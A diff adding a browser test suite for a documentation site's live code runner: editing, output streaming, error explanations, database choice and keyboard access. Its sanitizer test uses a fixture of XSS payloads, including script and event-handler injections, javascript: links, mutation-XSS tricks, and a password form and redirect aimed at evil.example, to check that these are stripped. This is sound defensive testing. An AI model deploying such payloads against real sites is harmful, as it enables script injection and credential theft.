@@ -1,0 +1,946 @@
+"""Running code in the page, as a reader sees it: blocks, editor, results, playground. The runtime itself is stood in
+for by tests/fake_runtime.js, which answers what each test tells it to."""
+
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from livedocs import EXAMPLES, LANGUAGES, ROOT, examples, messages, playground, results
+from livedocs.diagram import diagram
+from tests.browser import NARROW, WIDE, overflow
+
+pytestmark = pytest.mark.usefixtures("chromium")
+
+FAKE = Path(__file__).with_name("fake_runtime.js")
+PAGE = "/deleting/parent-deleted/"
+WHOLE = "deleting/default"  # an example that the page shows whole, with its results
+SECTION = ("deleting/ondelete_alone", "delete")  # one of which it shows a section, with results
+NARROW_DARK = {"viewport": NARROW, "color_scheme": "dark"}
+WIDE_LIGHT = {"viewport": WIDE, "color_scheme": "light"}
+
+
+def panel(name, section=None, language="ko", database="sqlite"):
+    """What the runtime returns of an example that does what is recorded: the panel without colours."""
+    example, _ = examples.find(name)
+    runs = {database: example.run(database)}
+    html = results.panel(example, runs, {}, language, example.sections.get(section), "UID")
+    return re.sub(
+        r"<code>.*?</code>", lambda m: re.sub(r"(?<!<code>)</?span[^>]*>", "", m[0]), html, flags=re.DOTALL
+    )
+
+
+def answer(name=WHOLE, section=None, language="ko", database="sqlite", change=(), **result):
+    html = panel(name, section, language, database)
+    for old, new in change:
+        assert old in html
+        html = html.replace(old, new)
+    return {"result": {"html": html, **result}}
+
+
+@pytest.fixture
+def opened(open_page):
+    """Opens a page whose runtime answers with `answers`, and waits for its buttons."""
+
+    def open_(path, *answers, language="ko", fake=None, ready=".live-run", **options):
+        given = {"answers": answers or [answer(language=language)], **(fake or {})}
+
+        def prepare(page):
+            page.add_init_script(f"window.fake = {json.dumps(given)}")
+            page.route(
+                "**/assets/runtime.js", lambda route: route.fulfill(path=FAKE, content_type="text/javascript")
+            )
+
+        options.setdefault("locale", {"ko": "ko-KR", "en": "en-US"}[language])
+        page = open_page(f"/{language}{path}", prepare=prepare, **options)
+        if ready:
+            page.wait_for_selector(ready)
+        return page
+
+    return open_
+
+
+def block(page, name=WHOLE, section=None, results=True):
+    """The figure of an example, or of one of its sections, with results or without."""
+    lines = "[data-lines]" if section else ":not([data-lines])"
+    if section:
+        found = examples.find(name)[0].lines(section)
+        lines = f'[data-lines="{found.start}-{found.stop - 1}"]'
+    has = ":has(> .outcome)" if results else ":not(:has(> .outcome))"
+    return page.locator(f'figure.example[data-example="{name}"]{lines}{has}').first
+
+
+def job(page, number=-1):
+    return page.evaluate(f"fake.jobs.at({number})")
+
+
+def words(page):
+    return page.evaluate(
+        "import(new URL('assets/words.js', document.querySelector('script[src*=\"site.js\"]').src.replace('assets/site.js', ''))).then((m) => m.words)"
+    )
+
+
+def run(figure, done=".live-head"):
+    figure.locator(".live-run").click()
+    figure.locator(done).wait_for()
+
+
+# A block that runs.
+
+
+@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_the_live_result_stands_where_the_recorded_one_stood(opened, language, view):
+    page = opened(PAGE, language=language, **view)
+    figure, said = block(page), words(page)
+    recorded = figure.locator("> .outcome")
+    recorded.locator(".outcome-views label", has_text="SQL").click()
+    run(figure)
+    assert job(page) == {
+        "source": examples.find(WHOLE)[0].source,
+        "filename": f"examples/{WHOLE}.py",
+        "modules": {},
+        "lines": None,
+        "language": language,
+        "database": "sqlite",
+        "uid": job(page)["uid"],
+    }
+    head = figure.locator(".live-head").inner_text()
+    assert said["live"].replace("{database}", "SQLite") in head and "84" in head and said["same"] in head
+    assert figure.locator(".live-status").get_attribute("role") == "status"
+    assert said["same"] in figure.locator(".live-status").text_content()
+    live = figure.locator(".live-result .outcome")
+    assert live.is_visible() and not recorded.is_visible()
+    sql = live.locator(".outcome-panel:visible")
+    assert "UPDATE project SET user_id=?" in sql.inner_text(), "it shows what the reader had chosen to see"
+    assert sql.locator("code .k").count() > 3 and sql.locator("code .c1").count() > 0
+    assert figure.locator(".live-difference").count() == 0
+    figure.locator(".live-choice button", has_text=said["show_recorded"]).click()
+    assert recorded.is_visible() and not live.is_visible()
+    figure.locator(".live-choice button", has_text=said["show_live"]).click()
+    assert live.is_visible() and not recorded.is_visible()
+    assert overflow(page) == 0
+    ids = page.evaluate("[...document.querySelectorAll('[id]')].map((e) => e.id)")
+    assert len(ids) == len(set(ids))
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_what_differs_is_shown_line_by_line(opened, language):
+    changed = answer(language=language, change=[("('Website', None)", "('Website', 1)")])
+    page = opened(PAGE, changed, language=language)
+    figure, said = block(page), words(page)
+    run(figure)
+    assert figure.locator(".live-verdict").inner_text() == said["differs"].replace(
+        "{views}", said["views"]["output"]
+    )
+    assert figure.locator(".live-difference").evaluate("details => details.open")
+    assert figure.locator(".live-difference code").inner_text().rstrip("\n").split("\n") == [
+        "  users: []",
+        "− projects: [('Website', None), ('Mobile app', None)]",
+        "+ projects: [('Website', 1), ('Mobile app', None)]",
+    ]
+
+
+def test_a_whole_script_is_edited(opened):
+    page = opened(PAGE, answer(change=[("Website", "Blog")]))
+    figure, said = block(page), words(page)
+    assert not figure.locator("button", has_text=said["reset"]).is_visible()
+    figure.locator("button", has_text=said["edit"]).click()
+    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
+    page.keyboard.type("import this\n")
+    run(figure)
+    assert job(page)["source"] == "import this\n" + examples.find(WHOLE)[0].source.rstrip("\n")
+    assert said["edited"] in figure.locator(".live-verdict").inner_text()
+    with page.expect_download() as download:
+        figure.locator("a[download]").click()
+    assert download.value.path().read_text("utf-8").startswith("import this\nfrom")
+    figure.locator("button", has_text=said["reset"]).click()
+    assert figure.locator("textarea").count() == 0 and figure.locator("> .highlight").is_visible()
+    assert figure.locator("> .outcome").is_visible() and not figure.locator(".live-head").is_visible()
+    assert page.evaluate("document.activeElement.textContent") == said["edit"]
+
+
+def test_a_section_is_put_back_into_its_script(opened):
+    example, section = SECTION
+    found = examples.find(example)[0]
+    lines = found.lines(section)
+    page = opened(PAGE, answer(example, section))
+    figure, said = block(page, example, section), words(page)
+    run(figure)
+    assert job(page)["source"] == found.source and job(page)["lines"] == [lines.start, lines.stop - 1]
+    assert said["same"] in figure.locator(".live-verdict").inner_text()
+    figure.locator("button", has_text=said["edit"]).click()
+    page.keyboard.type("first = 1\n\n")
+    run(figure)
+    before = found.source.split("\n")
+    assert job(page)["source"].split("\n") == [
+        *before[: lines.start - 1],
+        "first = 1",
+        "",
+        *before[lines.start - 1 :],
+    ]
+    assert job(page)["lines"] == [lines.start, lines.stop + 1]
+
+
+def test_every_section_goes_back_where_it_was(opened):
+    """With other indentation, too: what is unchanged gives the script, what is added has the section's indentation."""
+    page = opened(PAGE)
+    put_back = """([script, shown, code, lines]) =>
+      import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'live.js'))
+        .then(({ putBack }) => putBack(script, code, shown, lines))"""
+    checked = 0
+    for example in examples.all_examples():
+        for section, lines in example.sections.items():
+            shown = example.code(section).rstrip("\n")
+            numbers = [lines.start, lines.start - 1 + example.code(section).rstrip("\n").count("\n") + 1]
+            got = page.evaluate(put_back, [example.source, shown, shown, numbers])
+            assert got["source"] == example.source, (example.name, section)
+            checked += 1
+    assert checked > 300
+    script = "def f():\n    if x:\n        a()\n        b()\n"
+    got = page.evaluate(put_back, [script, "a()\nb()", "a()\n\nif y:\n    c()\nb()\n", [3, 4]])
+    assert got == {
+        "source": "def f():\n    if x:\n        a()\n\n        if y:\n            c()\n        b()\n",
+        "lines": [3, 7],
+    }
+
+
+def test_code_without_a_result_runs_whole(opened):
+    page = opened(PAGE)
+    figure = page.locator("figure.example:not(:has(> .outcome)) .live-run").first.locator(
+        "xpath=ancestor::figure"
+    )
+    run(figure)
+    example = examples.find(figure.get_attribute("data-example"))[0]
+    assert job(page)["source"] == example.source
+    assert figure.locator(".live-result .outcome").is_visible()
+    assert figure.locator(".live-choice, .live-verdict").count() == 0
+
+
+def test_modules_go_along_and_can_be_edited(opened):
+    page = opened("/linking/modules/")
+    figure = page.locator("figure.example[data-module]").first
+    name, module = figure.get_attribute("data-example"), figure.get_attribute("data-module")
+    example = examples.find(name)[0]
+    figure.locator("button", has_text=words(page)["edit"]).click()
+    page.keyboard.type("x = 1\n")
+    run(figure)
+    given = job(page)
+    assert given["source"] == example.source and given["lines"] is None
+    assert given["modules"].keys() == example.modules.keys()
+    for path in example.modules:
+        assert given["modules"][path].rstrip("\n") == (
+            "x = 1\n" * (path == module) + example.code(path)
+        ).rstrip("\n")
+
+
+def test_rows_that_changed_since_the_run_before_are_marked(opened):
+    page = opened(PAGE, answer(), answer(change=[("<td>Website</td>", "<td>Blog</td>")]))
+    figure, said = block(page), words(page)
+    run(figure)
+    figure.locator(".live-result label", has_text=said["views"]["rows"]).click()
+    assert figure.locator(".live-since").count() == 0
+    figure.locator(".live-run").click()
+    figure.locator(".live-since").wait_for()
+    marked = figure.locator(".live-since").all_text_contents()
+    assert marked == [f"Blog ({said['since'].replace('{value}', 'Website')})"]
+
+
+# What is loaded, and when.
+
+
+def test_nothing_is_loaded_before_the_reader_means_it(opened):
+    page = opened(PAGE)
+    page.locator("h2").nth(1).hover()
+    page.wait_for_timeout(200)
+    assert page.evaluate("fake.starts") == 0
+    loaded = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
+    assert not [name for name in loaded if re.search(r"/examples/|messages\.json|playground\.js", name)]
+    block(page).locator(".live-bar").hover()
+    assert page.evaluate("fake.starts") == 1
+    page = opened(PAGE)
+    block(page).locator(".live-run").focus()
+    assert page.evaluate("fake.starts") == 1
+
+
+def test_where_data_is_saved_only_a_click_loads(open_page, opened):
+    save = "Object.defineProperty(navigator, 'connection', { value: { saveData: true } })"
+    page = opened(PAGE)
+    page.context.add_init_script(save)
+    page.reload()
+    page.wait_for_selector(".live-run")
+    figure = block(page)
+    assert words(page)["first_run"].replace("{size}", "8.1") == figure.locator(".live-note").inner_text()
+    figure.locator(".live-bar").hover()
+    figure.locator(".live-run").focus()
+    assert page.evaluate("fake.starts + fake.jobs.length") == 0
+    run(figure)
+    assert page.evaluate("fake.jobs.length") == 1
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_loading_shows_how_much_and_can_be_tried_again(opened, language):
+    progress = [{"loaded": 1_000_000, "total": 8_100_000}, {"loaded": 3_200_000, "total": 8_100_000}]
+    page = opened(
+        PAGE,
+        {"progress": progress, "pause": 400, "fail": "download"},
+        answer(language=language),
+        language=language,
+    )
+    figure, said = block(page), words(page)
+    figure.locator(".live-run").click()
+    page.wait_for_function("document.querySelector('.live-progress:not([hidden])')?.value === 3200000")
+    assert figure.locator(".live-progress").get_attribute("max") == "8100000"
+    loading = said["loading"].replace("{loaded}", "3.2").replace("{total}", "8.1")
+    assert figure.locator(".live-status").inner_text() == loading
+    figure.locator(".live-again").wait_for()
+    assert figure.locator(".live-status").inner_text() == said["download"]
+    assert not figure.locator(".live-progress").is_visible()
+    figure.locator(".live-again").click()
+    figure.locator(".live-head").wait_for()
+    assert not figure.locator(".live-again").is_visible()
+
+
+def test_a_script_that_cannot_be_loaded_is_a_download_too(opened, chromium):
+    page = opened(PAGE)
+    page.route("**/examples/**", lambda route: route.abort())
+    figure, said = block(page), words(page)
+    figure.locator(".live-run").click()
+    figure.locator(".live-again").wait_for()
+    assert figure.locator(".live-status").inner_text() == said["download"]
+    page.unroute("**/examples/**")
+    figure.locator(".live-again").click()
+    figure.locator(".live-head").wait_for()
+
+
+@pytest.mark.parametrize("fake", [{"supported": False}, None], ids=["browser", "build"])
+def test_without_a_runtime_the_page_is_as_before(opened, open_page, fake):
+    if fake:
+        page = opened(PAGE, fake=fake, ready=None)
+    else:
+
+        def prepare(page):
+            page.route(
+                "**/assets/runtime.js",
+                lambda route: route.fulfill(
+                    body="export const supported = () => false;", content_type="text/javascript"
+                ),
+            )
+
+        page = open_page(f"/ko{PAGE}", prepare=prepare)
+    page.wait_for_timeout(400)
+    assert page.locator(".live, .live-run").count() == 0
+    loaded = page.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
+    assert any("runtime.js" in name for name in loaded) and not [n for n in loaded if "/live.js" in n]
+
+
+# While it runs.
+
+
+def test_output_comes_as_it_is_printed_and_can_be_stopped(opened):
+    page = opened(PAGE, {"output": ["one\n", "two\n"], "hold": True}, answer())
+    page.clock.install()
+    figure, said = block(page), words(page)
+    assert not figure.locator(".live-stop").is_visible()
+    figure.locator(".live-run").click()
+    page.clock.run_for(1000)
+    stream = figure.locator(".live-stream")
+    stream.wait_for()
+    assert stream.inner_text() == "one\ntwo\n" and stream.get_attribute("aria-live") == "polite"
+    assert figure.locator(".live-status").inner_text() == said["running"]
+    page.clock.run_for(5000)
+    assert figure.locator(".live-status").inner_text() == said["still"]
+    figure.locator(".live-stop").focus()
+    page.keyboard.press("Enter")
+    page.wait_for_function("text => document.body.innerText.includes(text)", arg=said["stopped"])
+    assert stream.inner_text() == "one\ntwo\n", "what was printed stays"
+    assert page.evaluate("document.activeElement.classList.contains('live-run')"), "the focus is not lost"
+    page.clock.run_for(6000)
+    assert figure.locator(".live-status").inner_text() == said["stopped"]
+    run(figure)
+    assert said["same"] in figure.locator(".live-verdict").inner_text()
+    assert not stream.is_visible()
+
+
+def test_running_another_block_stops_the_first(opened):
+    page = opened(PAGE, {"output": ["first"], "hold": True}, answer(*SECTION))
+    said = words(page)
+    first, second = block(page), block(page, *SECTION)
+    first.locator(".live-run").click()
+    first.locator(".live-stream").wait_for()
+    run(second)
+    assert said["stopped"] in first.locator(".live").inner_text()
+    assert said["same"] in second.locator(".live").inner_text()
+    assert page.evaluate("fake.stops") == 1
+
+
+# How it may end.
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+@pytest.mark.parametrize("status", ["flood", "memory", "crashed", "stopped"])
+def test_each_way_to_end_is_said(opened, language, status):
+    page = opened(PAGE, {"output": ["x\n"], "result": {"status": status}}, language=language)
+    figure, said = block(page), words(page)
+    run(figure, done=".live-stream")
+    page.wait_for_function("text => document.body.innerText.includes(text)", arg=said[status])
+    assert figure.locator("> .outcome").is_visible(), "the recorded result stays"
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+@pytest.mark.parametrize(
+    ("type_", "message", "word"),
+    [
+        ("RuntimeError", "input() is not available", "input"),
+        ("SystemExit", "1", "exit"),
+        ("SyntaxError", "'(' was never closed", "syntax"),
+        ("IndentationError", "unexpected indent", "syntax"),
+        ("RuntimeError", "can't start new thread", "threads"),
+        ("RecursionError", "maximum recursion depth exceeded", "recursion"),
+        ("MemoryError", "", "out_of_memory"),
+        ("ZeroDivisionError", "division by zero", "error"),
+    ],
+)
+def test_each_error_is_explained(opened, language, type_, message, word):
+    error = {"type": type_, "message": message, "line": 3}
+    page = opened(PAGE, answer(language=language, error=error), language=language)
+    figure, said = block(page), words(page)
+    run(figure, done=".live-error")
+    text = figure.locator(".live-error").inner_text()
+    assert said[word] in text and type_ in text and message in text
+    assert said["line"].replace("{line}", "3") in text
+
+
+def marked_line(figure):
+    """The number of the line that is marked, by where the mark is on the screen."""
+    mark = figure.locator(".error-line").bounding_box()
+    pre = figure.locator("pre:visible").first
+    rows = pre.evaluate(
+        """pre => { const range = document.createRange(), rows = []; let at = 0;
+          const walk = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);
+          for (let node = walk.nextNode(); node; node = walk.nextNode())
+            for (let i = 0; i < node.data.length; i++) if (node.data[i].trim()) {
+              range.setStart(node, i); range.setEnd(node, i + 1);
+              rows.push(range.getBoundingClientRect().top + range.getBoundingClientRect().height / 2); }
+          return rows; }"""
+    )
+    inside = {round(row) for row in rows if mark["y"] < row < mark["y"] + mark["height"]}
+    assert len(inside) == 1, inside
+    return inside.pop(), sorted({round(row) for row in rows})
+
+
+@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
+def test_the_line_of_the_error_is_marked(opened, view):
+    error = {"type": "NameError", "message": "name 'x' is not defined", "line": 2}
+    page = opened(PAGE, answer(error=error), **view)
+    figure, said = block(page), words(page)
+    run(figure, done=".error-line")
+    line, rows = marked_line(figure)
+    assert rows.index(line) == 1
+    figure.locator("button", has_text=said["edit"]).click()
+    assert figure.locator(".error-line").count() == 0
+    run(figure, done=".error-line")
+    line, rows = marked_line(figure)
+    assert rows.index(line) == 1
+    figure.locator("textarea").focus()
+    page.keyboard.type("y")
+    assert figure.locator(".error-line").count() == 0, "the line is another now"
+
+
+def test_the_line_of_a_section_and_one_outside(opened):
+    example, section = SECTION
+    lines = examples.find(example)[0].lines(section)
+    here = {"type": "NameError", "message": "x", "line": lines.start + 1}
+    there = {"type": "NameError", "message": "x", "line": 2}
+    page = opened(PAGE, answer(example, section, error=here), answer(example, section, error=there))
+    figure, said = block(page, example, section), words(page)
+    run(figure, done=".error-line")
+    assert said["line"].replace("{line}", "2") in figure.locator(".live-error").inner_text()
+    line, rows = marked_line(figure)
+    assert rows.index(line) == 1
+    figure.locator(".live-run").click()
+    figure.locator(".live-open-line").wait_for()
+    assert said["line_elsewhere"].replace("{line}", "2") in figure.locator(".live-error").inner_text()
+    assert figure.locator(".error-line").count() == 0
+    figure.locator(".live-open-line").click()
+    page.wait_for_selector(".playground .error-line")
+    selected = "(a => a.value.slice(a.selectionStart, a.selectionEnd))(document.activeElement)"
+    assert page.evaluate(selected) == examples.find(example)[0].source.split("\n")[1]
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+@pytest.mark.parametrize(
+    ("type_", "message", "place"),
+    [
+        (
+            "IntegrityError",
+            "(sqlite3.IntegrityError) NOT NULL constraint failed: pet.owner_id",
+            "parent-deleted/#not-null",
+        ),
+        (
+            "ArgumentError",
+            "Node.children and back-reference Node.parent are both of the same direction <x>.  Did you mean to set remote_side",
+            "tree/#same-direction",
+        ),
+        (
+            "InvalidRequestError",
+            "When initializing mapper Mapper[Pet(pet)], expression 'Ownr' failed to locate a name ('Ownr').",
+            "modules/#failed-to-locate",
+        ),
+        ("ZeroDivisionError", "division by zero", None),
+        ("ValueError", "there are no foreign words here", None),
+    ],
+)
+def test_a_message_leads_to_our_page_on_it(opened, language, type_, message, place):
+    error = {"type": type_, "message": message, "line": 3}
+    page = opened(PAGE, answer(language=language, error=error), language=language)
+    figure = block(page)
+    with page.expect_response("**/messages.json"):
+        run(figure, done=".live-error")
+    page.wait_for_timeout(100)
+    hrefs = [link.get_attribute("href") for link in figure.locator(".live-error a").all()]
+    assert [f"/{language}/" in href and href.endswith(place or "-") for href in hrefs] == [True] * bool(
+        place
+    ), hrefs
+
+
+def test_the_list_of_messages_leads_to_places_that_exist(site):
+    entries = json.loads((site / "assets" / "messages.json").read_text("utf-8"))
+    assert entries == json.loads(messages.data()) and len(entries) > 150
+    for entry in entries:
+        path, id_ = entry["place"].split("#")
+        for language in LANGUAGES:
+            assert f'id="{id_}"' in (site / language / path / "index.html").read_text("utf-8"), entry
+            assert entry["title"][language]
+
+
+# Databases.
+
+
+def test_postgresql_is_chosen_and_says_what_it_loads(opened):
+    page = opened(PAGE, answer(), answer(database="postgresql"))
+    figure, said = block(page), words(page)
+    assert figure.locator(".live-databases input:checked").get_attribute("value") == "sqlite"
+    figure.locator(".live-databases label", has_text="PostgreSQL").click()
+    assert figure.locator(".live-note").inner_text() == said["postgresql_size"].replace("{size}", "3.9")
+    assert page.evaluate("fake.jobs.length") == 0, "choosing does not run"
+    page.evaluate("fake.answers.shift()")
+    run(figure)
+    assert job(page)["database"] == "postgresql"
+    assert said["live"].replace("{database}", "PostgreSQL") in figure.locator(".live-head").inner_text()
+    assert said["same"] in figure.locator(".live-verdict").inner_text(), "compared with what PostgreSQL gave"
+
+
+def test_without_postgresql_there_is_no_choice(opened):
+    page = opened(PAGE, fake={"postgresql": 0})
+    assert page.locator(".live-databases").count() == 0 and page.locator(".live-run").count() > 3
+
+
+def shown_on(name, language="ko"):
+    """The address of a page that shows an example's code."""
+    for path in sorted((ROOT / "docs" / language).rglob("*.md")):
+        if re.search(rf"^::: (example|code) {name}( |$)", path.read_text("utf-8"), re.MULTILINE):
+            return f"/{path.relative_to(ROOT / 'docs' / language).with_suffix('').as_posix()}/"
+    return None
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_what_cannot_run_in_the_page_says_why(opened, language):
+    reasons = {}
+    for example in examples.all_examples():
+        if shown_on(example.name) and (example.in_page or example.databases == ("postgresql",)):
+            reasons.setdefault(example.in_page, example)
+    only_postgresql = reasons[None]
+    assert {None, "mariadb", "threads"} <= reasons.keys()
+    for reason, example in reasons.items():
+        if reason:
+            page = opened(shown_on(example.name), language=language, ready=".live")
+            figure = page.locator(f'figure.example[data-example="{example.name}"]').first
+            assert figure.locator(".live-reason").inner_text() == words(page)["not_in_page"][reason]
+            assert figure.locator("button.live-run").count() == 0
+    page = opened(shown_on(only_postgresql.name), language=language)
+    figure = page.locator(f'figure.example[data-example="{only_postgresql.name}"]').first
+    assert figure.locator(".live-databases").count() == 0
+    figure.locator(".live-run").click()
+    page.wait_for_function("fake.jobs.length === 1")
+    assert job(page)["database"] == "postgresql"
+    page = opened(shown_on(only_postgresql.name), language=language, fake={"postgresql": 0}, ready=".live")
+    figure = page.locator(f'figure.example[data-example="{only_postgresql.name}"]').first
+    assert figure.locator(".live-reason").inner_text() == words(page)["not_in_page"]["postgresql"]
+
+
+def test_every_block_with_code_says_whether_it_runs(site):
+    for path in site.rglob("index.html"):
+        for attributes, body in re.findall(
+            r'<figure class="example"([^>]*)>(.*?)</figure>', path.read_text("utf-8"), re.DOTALL
+        ):
+            if "<figcaption" not in body:
+                assert "data-example" not in attributes
+                continue
+            data = dict(re.findall(r'data-([\w-]+)="([^"]*)"', attributes))
+            example = examples.find(data["example"])[0]
+            assert data["databases"].split() == list(example.databases)
+            assert data.get("not-in-page") == example.in_page
+            for module in data.get("modules", "").split():
+                assert (site / "examples" / data["example"].split("/")[0] / module).exists()
+
+
+# By keyboard.
+
+
+def test_all_by_keyboard(opened):
+    page = opened(PAGE, answer(), viewport=NARROW)
+    figure, said = block(page), words(page)
+    figure.locator(".live-run").focus()
+    outline = "getComputedStyle(document.activeElement).outlineStyle"
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.textContent") == said["edit"]
+    assert page.evaluate(outline) == "solid"
+    page.keyboard.press("Enter")
+    area = figure.locator("textarea")
+    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
+    described = page.evaluate(
+        "document.getElementById(document.activeElement.getAttribute('aria-describedby')).textContent"
+    )
+    assert described == said["editor_help"] and area.get_attribute("aria-label") == said["editor"]
+    page.keyboard.press("Control+A")
+    page.keyboard.type("def f():\nreturn 1\n")
+    assert area.input_value() == "def f():\n    return 1\n    "
+    page.keyboard.press("Shift+Tab")
+    page.keyboard.type("f()")
+    assert area.input_value() == "def f():\n    return 1\nf()"
+    page.keyboard.press("Control+A")
+    page.keyboard.press("Tab")
+    assert area.input_value() == "    def f():\n        return 1\n    f()"
+    page.keyboard.press("Shift+Tab")
+    assert area.input_value() == "def f():\n    return 1\nf()"
+    page.keyboard.press("Control+Z")
+    assert area.input_value() == "    def f():\n        return 1\n    f()"
+    page.keyboard.press("Control+Enter")
+    figure.locator(".live-head").wait_for()
+    assert job(page)["source"] == "    def f():\n        return 1\n    f()"
+    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
+    page.keyboard.press("Escape")
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.classList.contains('live-run')")
+    page.keyboard.press("Shift+Tab")
+    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
+    page.keyboard.press("Tab")
+    assert page.evaluate("document.activeElement.tagName") == "TEXTAREA", "Esc held for one Tab"
+    assert page.evaluate(
+        "[...document.querySelectorAll('.live button')].every((b) => b.type === 'button' && b.textContent)"
+    )
+    assert overflow(page) == 0
+
+
+def test_the_colours_lie_under_the_letters(opened):
+    """Both layers of the editor hold the same text in the same place; Korean included."""
+    page = opened(PAGE, **NARROW_DARK)
+    figure, said = block(page), words(page)
+    figure.locator("button", has_text=said["edit"]).click()
+    page.keyboard.insert_text("# 한글 설명\nname = '이름'\n")
+    for name in (
+        "fontFamily",
+        "fontSize",
+        "lineHeight",
+        "paddingTop",
+        "paddingLeft",
+        "letterSpacing",
+        "tabSize",
+    ):
+        texts = "[...document.querySelectorAll('.editor-stack > :is(pre, textarea)')].map((e) => getComputedStyle(e)[name])"
+        one, other = page.evaluate(f"(name) => {texts}", name)
+        assert one == other, name
+    assert (
+        figure.locator(".editor-stack pre").text_content() == figure.locator("textarea").input_value() + "\n"
+    )
+    heights = (
+        "[...document.querySelectorAll('.editor-stack > :is(pre, textarea)')].map((e) => e.scrollHeight)"
+    )
+    one, other = page.evaluate(heights)
+    assert abs(one - other) <= 2
+    figure.locator("textarea").evaluate("(area) => { area.scrollLeft = 60 }")
+    page.wait_for_timeout(100)
+    assert figure.locator(".editor-stack pre").evaluate("(pre) => pre.scrollLeft") == 60
+
+
+def test_colouring_keeps_every_letter(opened):
+    page = opened(PAGE)
+    sources = [path.read_text("utf-8") for path in sorted(EXAMPLES.rglob("*.py"))]
+    kept = page.evaluate(
+        """(sources) => import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'highlight.js'))
+          .then(({ coloured }) => sources.map((text) =>
+            coloured(text, 'python').textContent === text && coloured(text, 'sql').textContent === text))""",
+        sources,
+    )
+    assert len(kept) > 600 and all(kept)
+
+
+@pytest.mark.parametrize(
+    ("before", "now", "expected"),
+    [
+        ("", "", []),
+        ("", "a", ["+a"]),
+        ("a\nb", "", ["-a", "-b"]),
+        ("a\nb\nc", "a\nx\nc", [" a", "-b", "+x", " c"]),
+        ("a\nb\nc\nd", "b\nc\nd\ne", ["-a", " b", " c", " d", "+e"]),
+    ],
+)
+def test_line_differences(opened, before, now, expected):
+    page = opened(PAGE)
+    got = page.evaluate(
+        """([before, now]) => import(document.querySelector('script[src*="site.js"]').src.replace('site.js', 'diff.js'))
+          .then(({ diffLines }) => diffLines(before, now).map(([sign, line]) => sign + line))""",
+        [before, now],
+    )
+    assert got == expected
+
+
+# What comes out of the sandbox is not trusted.
+
+HOSTILE = """<div class="outcome md-overlay" role="group" style="position:fixed;inset:0" onclick="hacked()" id="__search">
+<script>window.hacked = 1</script><img src=x onerror="window.hacked = 2"><iframe srcdoc="<script>parent.hacked=3</script>"></iframe>
+<a href="javascript:hacked()">link</a><form action="https://evil.example"><input name="password" type="password"></form>
+<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/x.css"><base href="https://evil.example/">
+<meta http-equiv="refresh" content="0;url=https://evil.example"><object data="x"></object><video src="https://evil.example/v"></video>
+<input type="radio" name="__palette" id="__palette_0" value="0" checked onfocus="hacked()" autofocus>
+<input type="radio" name="UID-view" id="UID-view-output" value="output" checked formaction="x"><label for="UID-view-output">Output</label>
+<svg onload="window.hacked = 4"><use href="https://evil.example/#x"/><foreignObject><img src=x onerror="window.hacked = 5"></foreignObject>
+<animate attributeName="href" to="javascript:hacked()"/><path d="M0 0 url(https://evil.example)" fill="url(https://evil.example)"/>
+<text class="diagram-name" x="1">kept</text><script>window.hacked = 6</script></svg>
+<template><p>no</p></template>
+<div class="outcome-panel md-dialog md-search__overlay" data-view="output" data-databases="sqlite" data-md-component="dialog" tabindex="1">
+<div class="highlight"><pre><code>printed &lt;b&gt;text&lt;/b&gt;<b onmouseover=hacked()>bold</b></code></pre></div>
+<p title="x" contenteditable aria-label="fine" aria-labelledby="__search">text</p></div>
+<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;"></table></mtext></math></div>"""
+
+LEFT = """() => [...document.querySelectorAll('.live-result *')].map((e) => [e.namespaceURI.split('/').at(-1), e.localName,
+  Object.fromEntries([...e.attributes].map((a) => [a.name, a.value]))])"""
+
+
+def test_hostile_html_is_rebuilt_from_what_results_consist_of(opened):
+    page = opened(PAGE, {"result": {"html": HOSTILE}})
+    page.evaluate("window.hacked = 0")
+    figure = block(page)
+    run(figure)
+    page.wait_for_timeout(300)
+    uid = job(page)["uid"]
+    left = page.evaluate(LEFT)
+    html = "xhtml"
+    inside = [
+        [html, "div", {"class": "outcome", "role": "group"}],
+        [html, "input", {"type": "radio", "value": "0", "checked": ""}],
+        [
+            html,
+            "input",
+            {
+                "type": "radio",
+                "name": f"{uid}-view",
+                "id": f"{uid}-view-output",
+                "value": "output",
+                "checked": "",
+            },
+        ],
+        [html, "label", {"for": f"{uid}-view-output"}],
+        ["svg", "svg", {}],
+        ["svg", "path", {}],
+        ["svg", "text", {"class": "diagram-name", "x": "1"}],
+        [html, "div", {"class": "outcome-panel", "data-view": "output", "data-databases": "sqlite"}],
+        [html, "div", {"class": "highlight", "tabindex": "0"}],
+        [html, "pre", {}],
+        [html, "code", {}],
+        [html, "p", {"aria-label": "fine"}],
+    ]
+    shown = [entry for entry in left if entry in inside]
+    until = next(i for i, entry in enumerate(left) if entry[2].get("class") == "live-difference")
+    assert left[:until] == shown[:until] == inside, left[:until]
+    assert page.evaluate("window.hacked") == 0
+    assert figure.locator(".live-result pre code").first.text_content() == "printed <b>text</b>"
+    assert page.locator("#__palette_0").count() <= 1 and page.locator("#__search").count() == 1
+
+
+@pytest.mark.parametrize(
+    "html", ["", "<p>no panel</p>", "<script>alert(1)</script>", None, 5, ["<div class=outcome>"]]
+)
+def test_something_else_than_a_panel_is_not_shown(opened, html):
+    page = opened(PAGE, {"output": ["printed"], "result": {"html": html}})
+    figure = block(page)
+    figure.locator(".live-run").click()
